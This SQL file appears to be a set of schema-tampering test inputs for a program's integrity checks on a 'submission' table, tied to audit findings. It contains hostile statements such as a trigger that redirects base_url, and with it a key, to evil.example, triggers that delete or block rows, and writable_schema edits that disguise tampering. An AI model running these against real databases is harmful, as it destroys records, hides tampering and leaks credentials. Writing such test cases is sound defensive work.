-- The audit's R1: a trigger rewrites what becomes of a submission.
CREATE TRIGGER t AFTER UPDATE ON submission BEGIN UPDATE submission SET state = 'not_sent'; END;

-- The audit's R2: a trigger refuses every row.
CREATE TRIGGER t BEFORE INSERT ON submission BEGIN SELECT raise(ABORT, 'no'); END;

-- The audit's R3: a trigger sends the polls, and the key with them, elsewhere.
CREATE TRIGGER t AFTER INSERT ON submission BEGIN UPDATE submission SET base_url = 'http://evil.example/'; END;

-- The audit's R6: all row numbers are used up.
INSERT INTO sqlite_sequence VALUES ('submission', 9223372036854775807);

-- The audit's R7: a check refuses a task's creation.
PRAGMA writable_schema = ON; UPDATE sqlite_schema SET sql = replace(sql, '''created'', ', '') WHERE name = 'submission';

-- The audit's R8, its first half: the search's trigger is missing.
DROP TRIGGER submission_search_insert;

-- The audit's R8, its second half: an index is missing.
DROP INDEX submission_payload;

-- The audit's R9: a trigger deletes what is recorded.
CREATE TRIGGER t AFTER INSERT ON submission BEGIN DELETE FROM submission WHERE id = new.id; END;

-- A column more.
ALTER TABLE submission ADD COLUMN mine TEXT;

-- A check in a column more.
ALTER TABLE submission ADD COLUMN mine TEXT CHECK (mine IS NULL);

-- A trigger keeps rows that were deleted.
CREATE TRIGGER t BEFORE DELETE ON submission BEGIN SELECT raise(IGNORE); END;

-- A trigger on a view of the program.
CREATE TRIGGER t INSTEAD OF INSERT ON submission_text BEGIN SELECT 1; END;

-- A trigger of the program's name that does something else.
DROP TRIGGER submission_named; CREATE TRIGGER submission_named AFTER INSERT ON submission BEGIN SELECT 1; END;

-- An index of the program's name over something else.
DROP INDEX submission_payload; CREATE INDEX submission_payload ON submission (id);

-- A unique index that refuses the second submission to an address.
CREATE UNIQUE INDEX one ON submission (base_url);

-- An index that fails for one length of an address.
CREATE INDEX odd ON submission (abs(-9223372036854775807 - length(base_url)));

-- A view of the program's name over something else.
DROP VIEW submission_text; CREATE VIEW submission_text AS SELECT * FROM submission;

-- A table that keeps rows from being deleted.
CREATE TABLE mine (s INTEGER REFERENCES submission (id) ON DELETE RESTRICT);

-- A table with code behind it.
CREATE VIRTUAL TABLE mine USING fts5 (x);

-- A trigger under a name of SQLite's own.
PRAGMA writable_schema = ON; INSERT INTO sqlite_schema VALUES ('trigger', 'sqlite_stat1', 'submission', 0,
'CREATE TRIGGER sqlite_stat1 AFTER UPDATE ON submission BEGIN DELETE FROM sent_before; END');

-- A comment that hides a part of the table from a careless comparison.
PRAGMA writable_schema = ON; UPDATE sqlite_schema SET sql = replace(sql, ' STRICT', '--' || char(0, 10) || ' STRICT')
WHERE name = 'submission';

-- A row with the last number that there is.
INSERT INTO submission (id, created_at_ms, profile, base_url, key_hint, task_type, state, body, payload_sha256)
VALUES (9223372036854775807, 1, 'p', 'u', 'k', 't', 'created', x'', x''); DELETE FROM sqlite_sequence;

-- Settings of the search's index under which every row is refused.
UPDATE submission_search_config SET v = 9;

-- A table that takes values of any type.
PRAGMA writable_schema = ON; UPDATE sqlite_schema SET sql = replace(sql, ' STRICT', '') WHERE name = 'submission';
